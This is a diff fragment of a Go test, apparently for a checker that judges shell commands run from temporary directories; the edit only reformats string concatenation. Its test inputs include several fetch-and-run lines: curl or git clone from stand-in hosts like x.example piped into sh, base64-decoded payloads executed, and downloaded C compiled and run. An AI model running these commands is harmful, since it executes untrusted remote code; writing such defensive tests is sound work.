@@ -132,8 +132,8 @@ func TestOwnTemporary(t *testing.T) {
 		"curl -s https://x.example/x > "+scratch+"/x.sh; sh "+scratch+"/*.sh",
 		"mkdir /tmp/no-such; curl -so /tmp/no-such/x.py https://x.test/; PYTHONPATH=/tmp/no-such python3 -V")
 	for _, line := range []string{"curl -s https://x.example/x > $d/x.sh; sh $d/x.sh",
-		"git clone https://x.example/x $d/r; sh $d/r/x.sh", "cp "+old+" $d/x; sh $d/x",
-		"cp -r "+root+"/tmp/a $d; sh $d/a/x.sh", "cd $d; npm pack evil; tar xf *.tgz; node x/a.js",
+		"git clone https://x.example/x $d/r; sh $d/r/x.sh", "cp " + old + " $d/x; sh $d/x",
+		"cp -r " + root + "/tmp/a $d; sh $d/a/x.sh", "cd $d; npm pack evil; tar xf *.tgz; node x/a.js",
 		"python3 -c 'import os; os.system(x)' > $d/x; sh $d/x",
 		"curl https://x.example/x | tar xz -C $d; sh $d/x.sh", "base64 -d f > $d/x; sh $d/x",
 		"curl -s https://x.example/x > $d/x.c; gcc $d/x.c -o x; ./x",
